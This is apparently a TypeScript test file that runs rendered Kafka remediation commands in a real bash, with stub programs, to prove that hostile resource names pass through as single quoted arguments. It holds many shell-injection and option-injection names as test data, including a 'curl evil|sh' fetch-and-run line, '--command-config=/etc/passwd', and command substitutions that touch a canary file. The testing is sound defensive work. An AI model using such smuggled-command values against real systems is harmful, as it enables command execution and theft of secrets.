// Proof that rendered command lines are safe to paste: each line runs in a real bash, with stubs in place of the
// Kafka scripts that record the argument vector they receive. Every hostile name must arrive as one intact
// argument in its place, no other command may run (a canary file stays absent, no extra stub call), in a
// `bash -c` script and in an interactive bash reading the lines as a paste (history expansion on).
import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { COMMAND_CONFIG_PLACEHOLDER, KAFKA_PROGRAMS, kafkaCommands, renderCommand, type CommandContext, type RemediationCommand } from "./commands";
import { runDetectors } from "./index";
import { T0, buildPartition, buildProducer, buildSnapshot, buildTopic, buildTransaction } from "./testing/snapshot-builder";

let dir: string;
let canary: string;

beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), "commands-shell-"));
  canary = path.join(dir, "canary");
  mkdirSync(path.join(dir, "bin"));
  mkdirSync(path.join(dir, "cwd"));
  // Files a glob in a name would expand to, if it were ever unquoted.
  writeFileSync(path.join(dir, "cwd", "a-file"), "");
  for (const program of KAFKA_PROGRAMS) {
    const stub = path.join(dir, "bin", program);
    // NUL-separated records: program, argument count, arguments. NUL is the one byte no argument can hold.
    // A dash script: it starts in half the time of bash, and only records what bash passed it.
    writeFileSync(stub, `#!/bin/sh\nprintf '%s\\0' "\${0##*/}" "$#" "$@" >> "$STUB_OUT"\n`);
    chmodSync(stub, 0o755);
  }
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

interface Invocation {
  program: string;
  argv: string[];
}

type Mode = "script" | "paste";

/** Runs the lines in bash and returns the stub invocations, in order. */
function runInBash(lines: string[], mode: Mode): Invocation[] {
  const out = path.join(dir, `out-${mode}`);
  writeFileSync(out, "");
  const script = lines.join("\n") + "\n";
  const env = { PATH: `${path.join(dir, "bin")}:/usr/bin:/bin`, STUB_OUT: out, HOME: dir, LANG: "C.UTF-8", NODE_ENV: "test" as const };
  const result =
    mode === "script"
      ? spawnSync("bash", ["--norc", "--noprofile", "-c", script], { cwd: path.join(dir, "cwd"), env, encoding: "utf8" })
      : spawnSync("bash", ["--norc", "--noprofile", "--noediting", "-i"], { cwd: path.join(dir, "cwd"), env, input: script, encoding: "utf8" });
  expect(result.error).toBeUndefined();
  if (mode === "script") expect(result.stderr).toBe("");
  const fields = readFileSync(out, "utf8").split("\u0000");
  fields.pop(); // after the last terminator
  const calls: Invocation[] = [];
  for (let i = 0; i < fields.length; ) {
    const program = fields[i];
    const count = Number(fields[i + 1]);
    calls.push({ program, argv: fields.slice(i + 2, i + 2 + count) });
    i += 2 + count;
  }
  return calls;
}

/** Each builder with the arguments it must produce for a name, written out independently of commands.ts. */
const BUILDERS: { name: string; build: (n: string) => RemediationCommand; args: (n: string) => string[] }[] = [
  { name: "describeTransaction", build: (n) => kafkaCommands.describeTransaction(n, "p"), args: (n) => ["describe", `--transactional-id=${n}`] },
  {
    name: "describeProducers",
    build: (n) => kafkaCommands.describeProducers({ topic: n, partition: 3 }, "p"),
    args: (n) => ["describe-producers", `--topic=${n}`, "--partition", "3"],
  },
  {
    name: "findHanging",
    build: (n) => kafkaCommands.findHanging({ topic: n, partition: 0 }, 3_600_000, "p"),
    args: (n) => ["find-hanging", `--topic=${n}`, "--partition", "0", "--max-transaction-timeout", "60"],
  },
  {
    name: "abortTransaction",
    build: (n) => kafkaCommands.abortTransaction({ topic: n, partition: 2 }, 1000, "p"),
    args: (n) => ["abort", `--topic=${n}`, "--partition", "2", "--start-offset", "1000"],
  },
  { name: "describeGroup", build: (n) => kafkaCommands.describeGroup(n, "p"), args: (n) => ["--describe", `--group=${n}`] },
  {
    name: "describeGroupMembers",
    build: (n) => kafkaCommands.describeGroupMembers(n, "p"),
    args: (n) => ["--describe", "--members", "--verbose", `--group=${n}`],
  },
  { name: "deleteGroup", build: (n) => kafkaCommands.deleteGroup(n, "p"), args: (n) => ["--delete", `--group=${n}`] },
  {
    name: "alterTopicConfig",
    build: (n) => kafkaCommands.alterTopicConfig(n, "min.insync.replicas", 2, "p"),
    args: (n) => ["--alter", "--entity-type", "topics", `--entity-name=${n}`, "--add-config", "min.insync.replicas=2"],
  },
  {
    name: "describeUnderReplicated",
    build: (n) => kafkaCommands.describeUnderReplicated(n, "p"),
    args: (n) => ["--describe", `--topic=${n}`, "--under-replicated-partitions"],
  },
];

const CONTEXTS: { label: string; context: CommandContext; connection: (program: string) => string[] }[] = [
  { label: "plaintext", context: { bootstrapServers: ["k1:9092", "k2:9092"] }, connection: () => ["--bootstrap-server", "k1:9092,k2:9092"] },
  {
    // A configured broker string is checked as host:port only, so it is quoted like any name.
    label: "credentials",
    context: { bootstrapServers: ["k1:9093", "$(touch ../canary):9093"], commandConfig: true },
    connection: (program) => [
      "--bootstrap-server",
      "k1:9093,$(touch ../canary):9093",
      program === "kafka-leader-election.sh" ? "--admin.config" : "--command-config",
      COMMAND_CONFIG_PLACEHOLDER,
    ],
  },
];

function hostileNames(canaryPath: string): string[] {
  const touch = `touch ${canaryPath}`;
  const names = [
    "billing`kafka-consumer-groups.sh --list; curl evil|sh #`",
    `$(${touch})`,
    `\`${touch}\``,
    `x; ${touch}`,
    `x | ${touch}`,
    `x && ${touch}`,
    `x || ${touch}`,
    `x & ${touch}`,
    `x' ; ${touch} ; echo '`,
    `x" ; ${touch} ; echo "`,
    `'$(${touch})'`,
    `"$(${touch})"`,
    `x\n${touch}\n`,
    `x\r\n${touch}`,
    `\n${touch} #`,
    `$'\\n'; ${touch}`,
    "'",
    '"',
    "''",
    "\\",
    "\\'",
    "-x",
    "-",
    "--",
    "--help",
    "--bootstrap-server evil:9092",
    "--bootstrap-server=evil:9092",
    "--command-config=/etc/passwd",
    "-rf",
    "$HOME",
    "${PATH}",
    "$((1+1))",
    "~",
    "~root",
    "*",
    "a-*",
    "?",
    "[a]-file",
    "{a,b}",
    "!!",
    "!-1",
    "!$",
    "^x^y",
    "#comment",
    "a #b",
    ">out",
    "<in",
    "2>&1",
    "%s%n",
    "заказы-订单-🚀",
    "\u202Eabc\u202C txt.exe",
    "a\u200Bb\u2066c\u2069",
    "e\u0301\u0308",
    "\u001b[31mred\u001b[0m",
    "\u007f\u0085\u00a0",
    "",
    " ",
    "  \t ",
    "\n",
    "a".repeat(1024),
    `'$(${touch})'`.repeat(64).slice(0, 1024),
  ];
  return names;
}

type Builder = (typeof BUILDERS)[number];
type Context = (typeof CONTEXTS)[number];

/** The command lines for each name with its builder, and the invocations they must cause. */
function linesFor(cases: [name: string, builder: Builder][], { context, connection }: Context) {
  const expected: Invocation[] = [];
  const lines: string[] = [];
  for (const [n, b] of cases) {
    const command = b.build(n);
    lines.push(renderCommand(command, context)!.line);
    expected.push({ program: command.program, argv: [...connection(command.program), ...b.args(n)] });
  }
  return { lines, expected };
}

const SLOW = { timeout: 180_000 };
const HAND_PICKED_NAMES = 61;

describe("rendered commands in a real bash", () => {
  it("a payload that is not quoted does run (the canary works)", () => {
    runInBash([`echo ${hostileNames(canary)[1]}`], "script");
    expect(existsSync(canary)).toBe(true);
    rmSync(canary);
  });

  for (const ctx of CONTEXTS) {
    for (const mode of ["script", "paste"] as const) {
      it(`passes each hand-picked hostile name as one intact argument, with every builder (${ctx.label}, ${mode})`, SLOW, () => {
        const names = hostileNames(canary);
        expect(names.length).toBe(HAND_PICKED_NAMES);
        const cases = names.flatMap((n) => BUILDERS.map((b): [string, Builder] => [n, b]));
        const { lines, expected } = linesFor(cases, ctx);
        expect(runInBash(lines, mode)).toEqual(expected);
        expect(existsSync(canary)).toBe(false);
      });
    }
  }

  it("passes the leader election without names, and connection options in the right place", () => {
    for (const { context, connection } of CONTEXTS) {
      const command = kafkaCommands.preferredLeaderElection("p");
      expect(runInBash([renderCommand(command, context)!.line], "script")).toEqual([
        { program: "kafka-leader-election.sh", argv: [...connection("kafka-leader-election.sh"), "--election-type", "PREFERRED", "--all-topic-partitions"] },
      ]);
    }
    expect(existsSync(canary)).toBe(false);
  });

  it("passes a detector's commands for a hostile transactional id and topic", () => {
    const id = hostileNames(canary)[0];
    const topic = "--bootstrap-server";
    const snapshot = buildSnapshot({
      topics: [
        buildTopic(topic, [
          buildPartition(0, {
            highWatermark: 500,
            lastStableOffset: 120,
            producers: [buildProducer({ producerId: 7, producerEpoch: 3, currentTxnStartOffset: 120, lastTimestamp: T0 - 16 * 60_000 })],
          }),
        ]),
      ],
      transactions: [
        buildTransaction({ transactionalId: id, producerId: 7, producerEpoch: 3, state: "Ongoing", transactionStartTimeMs: T0 - 1000, partitions: [{ topic: "other", partition: 0 }] }),
      ],
    });
    // A hanging candidate is reported once seen on two consecutive polls.
    const first = runDetectors({ snapshot, previous: null, now: T0 });
    const next = { ...snapshot, collectedAt: snapshot.collectedAt + 15_000 };
    const hanging = runDetectors({ snapshot: next, previous: first.state, now: T0 + 15_000 }).findings.filter((f) => f.kind === "hanging-transaction");
    expect(hanging).toHaveLength(1);
    const context = CONTEXTS[0].context;
    const calls = runInBash(hanging[0].commands.map((c) => renderCommand(c, context)!.line), "paste");
    const connection = ["--bootstrap-server", "k1:9092,k2:9092"];
    expect(calls).toEqual([
      { program: "kafka-transactions.sh", argv: [...connection, "describe", `--transactional-id=${id}`] },
      { program: "kafka-transactions.sh", argv: [...connection, "describe-producers", `--topic=${topic}`, "--partition", "0"] },
      { program: "kafka-transactions.sh", argv: [...connection, "abort", `--topic=${topic}`, "--partition", "0", "--start-offset", "120"] },
    ]);
    expect(existsSync(canary)).toBe(false);
  });

  it("renders no line for a name holding NUL, which no shell can pass", () => {
    expect(renderCommand(kafkaCommands.describeGroup("a\u0000b", "p"), CONTEXTS[0].context)).toBeNull();
  });

  // Generated names: arbitrary Unicode (no NUL: see above; well-formed, as Kafka's UTF-8 strings always are),
  // and strings assembled from shell metacharacters and fragments that would run the canary.
  const GENERATED_RUNS = 300;
  const FRAGMENTS = ["'", '"', "`", "$(", ")", "${", "}", ";", "|", "&", "&&", "\n", "\\", "!", "#", "~", "*", "-", "--", " ", "\t", "<", ">", "\u202E", "=", "touch CANARY"];
  const generatedName = fc
    .oneof(
      fc.string({ unit: "binary", maxLength: 64 }),
      fc.array(fc.constantFrom(...FRAGMENTS), { maxLength: 24 }).map((parts) => parts.join("")),
      fc.tuple(fc.constantFrom("-", "--", "--bootstrap-server "), fc.string({ unit: "grapheme", maxLength: 16 })).map(([a, b]) => a + b),
    )
    .map((s) => s.replaceAll("\u0000", "").replaceAll("touch CANARY", `touch ${canary}`))
    // With the u flag a surrogate pair is one code point: only a lone surrogate matches.
    .filter((s) => !/\p{Surrogate}/u.test(s));

  for (const mode of ["script", "paste"] as const) {
    it(`passes generated names as one intact argument (${mode})`, SLOW, () => {
      let runs = 0;
      let names = 0;
      fc.assert(
        fc.property(
          fc.array(fc.tuple(generatedName, fc.constantFrom(...BUILDERS)), { minLength: 1, maxLength: 4 }),
          fc.constantFrom(...CONTEXTS),
          (cases, ctx) => {
            runs++;
            names += cases.length;
            const { lines, expected } = linesFor(cases, ctx);
            expect(runInBash(lines, mode)).toEqual(expected);
            expect(existsSync(canary)).toBe(false);
          },
        ),
        { numRuns: GENERATED_RUNS },
      );
      expect(runs).toBe(GENERATED_RUNS);
      console.log(`${mode}: ${runs} generated cases, ${names} generated names through bash`);
    });
  }
});
